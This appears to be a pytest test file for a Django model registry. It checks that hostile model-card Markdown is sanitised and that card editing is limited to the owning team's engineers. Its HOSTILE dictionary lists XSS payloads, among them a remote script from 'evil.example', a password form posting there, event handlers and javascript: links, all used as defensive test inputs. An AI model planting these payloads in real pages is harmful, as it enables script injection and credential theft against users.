"""Hostile model cards: whatever Markdown or HTML a card holds, what the console and the API
render of it runs no script, carries no event handler, links nowhere but http(s) and mailto and
loads no image; only the team's engineers change a card, other teams do not see it."""

from html.parser import HTMLParser
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from console.audit import Actor
from console.models import AuditEvent
from registry import services
from tests import models as built

pytestmark = pytest.mark.django_db

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script-in-markdown": "Hello\n\n<script src=https://evil.example/x.js></script>\n\n**bold**",
    "javascript-link": "[click](javascript:alert(1))",
    "javascript-anchor": '<a href="javascript:alert(1)">click</a>',
    "mixed-case-scheme": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "entity-scheme": '<a href="&#106;avascript:alert(1)">click</a>',
    "data-link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "onerror": "<img src=x onerror=alert(1)>",
    "markdown-image": "![pixel](https://tracker.example/p.gif)",
    "onclick": '<p onclick="alert(1)">p</p>',
    "svg-onload": "<svg onload=alert(1)><circle/></svg>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "style": '<p style="position:fixed;top:0">cover</p><style>body{display:none}</style>',
    "form": '<form action="https://evil.example"><input name=password></form>',
    "object": '<object data="https://evil.example/x.swf"></object><embed src=x>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "table-cell-style": '<table><tr><td style="background:url(javascript:alert(1))">x</td></tr></table>',
}
SAFE_SCHEMES = ("http://", "https://", "mailto:")
ALLOWED_STYLES = {"", "text-align:left", "text-align:right", "text-align:center"}  # "": all filtered out


class Elements(HTMLParser):
    """Every start tag with its attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def dangers(html: str) -> list[str]:
    """What in `html` could run script, load from elsewhere or restyle the page."""
    parser = Elements()
    parser.feed(html)
    found = []
    for tag, attrs in parser.tags:
        if tag in {"script", "style", "img", "iframe", "svg", "object", "embed", "form", "input", "meta", "link"}:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"{tag}[{name}]")
            if name in {"href", "src", "action", "data"} and not (value or "").strip().lower().startswith(SAFE_SCHEMES):
                found.append(f"{tag}[{name}={value}]")
            if name == "style" and value not in ALLOWED_STYLES:
                found.append(f"{tag}[style={value}]")
    return found


def card_region(page: str) -> str:
    """The rendered card inside the version page (a card holds no <div>, so the first </div> ends it)."""
    start = page.index('<div class="model-card">')
    return page[start:page.index("</div>", start)]


@pytest.fixture
def model(teams: dict[str, Any], cast: dict[str, Any]) -> Any:
    iris = services.create_model(actor=Actor(user=cast["engineer"]), name="iris", team=teams["ml"])
    services.register_version(actor=Actor.system("tests"), model=iris,
                              upload=SimpleUploadedFile("m.onnx", built.mlp_onnx()))
    return iris


def test_the_checker_sees_what_it_must_refuse() -> None:
    raw = HOSTILE["onerror"] + HOSTILE["javascript-anchor"] + HOSTILE["script"]
    assert {"<img>", "img[onerror]", "a[href=javascript:alert(1)]", "<script>"} <= set(dangers(raw))


@pytest.mark.parametrize("markdown", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_card_renders_inert_in_the_api_and_the_console(
        client_for: Any, cast: dict[str, Any], model: Any, markdown: str) -> None:
    saved = client_for("engineer", "read", "manage").patch("/api/v1/models/iris/versions/1/card",
                                                           {"card_markdown": markdown}, format="json")
    assert saved.status_code == 200
    assert saved.json()["card_markdown"] == markdown  # kept as written: it is the rendering that is made safe
    assert dangers(saved.json()["html"]) == []
    viewer = Client()
    viewer.force_login(cast["viewer"])
    page = viewer.get("/models/iris/versions/1/")
    assert page.status_code == 200
    assert dangers(card_region(page.content.decode())) == []


def test_script_and_handlers_are_removed_not_just_escaped(client_for: Any, model: Any) -> None:
    markdown = "Before <script>alert('x')</script> <b onmouseover=alert(2)>bold</b> after"
    html = client_for("engineer", "read", "manage").patch("/api/v1/models/iris/versions/1/card",
                                                          {"card_markdown": markdown}, format="json").json()["html"]
    assert "alert" not in html and "onmouseover" not in html
    assert "<b>bold</b>" in html


def test_links_keep_safe_schemes_and_get_a_closed_rel(client_for: Any, model: Any) -> None:
    markdown = "[run](https://mlflow.example.com/runs/1) [mail](mailto:ml@example.com)"
    html = client_for("engineer", "read", "manage").patch("/api/v1/models/iris/versions/1/card",
                                                          {"card_markdown": markdown}, format="json").json()["html"]
    assert '<a href="https://mlflow.example.com/runs/1" rel="noopener noreferrer nofollow">run</a>' in html
    assert '<a href="mailto:ml@example.com" rel="noopener noreferrer nofollow">mail</a>' in html


def test_a_source_run_url_is_never_a_script_link(client_for: Any, model: Any) -> None:
    response = client_for("engineer", "read", "manage").patch(
        "/api/v1/models/iris/versions/1/card", {"source_run_url": "javascript:alert(document.cookie)"}, format="json")
    assert response.status_code == 400
    assert response.json() == {"detail": "'source_run_url' must be an http:// or https:// URL"}


def test_a_viewer_cannot_edit_a_card_and_another_team_cannot_see_it(
        client_for: Any, cast: dict[str, Any], model: Any) -> None:
    payload = {"card_markdown": HOSTILE["script"]}
    viewer = client_for("viewer", "read", "manage").patch("/api/v1/models/iris/versions/1/card", payload,
                                                          format="json")
    assert viewer.status_code == 403
    assert viewer.json() == {"detail": "the engineer role in team 'ml' is required to change this model"}
    outsider_api = client_for("outsider", "read", "manage")
    for outsider in (outsider_api.get("/api/v1/models/iris/versions/1/card"),
                     outsider_api.patch("/api/v1/models/iris/versions/1/card", payload, format="json")):
        assert (outsider.status_code, outsider.json()) == (404, {"detail": "model 'iris' not found"})
    browser = Client()
    browser.force_login(cast["viewer"])
    refused = browser.post("/models/iris/versions/1/card/", payload)
    assert refused.status_code == 403
    assert "the engineer role in team &#x27;ml&#x27; is required to change this model" in refused.content.decode()
    browser.force_login(cast["outsider"])
    assert browser.post("/models/iris/versions/1/card/", payload).status_code == 404
    assert browser.get("/models/iris/versions/1/").status_code == 404
    assert not AuditEvent.objects.filter(action="version.card_updated").exists()
    assert model.versions.get(number=1).card_markdown == ""
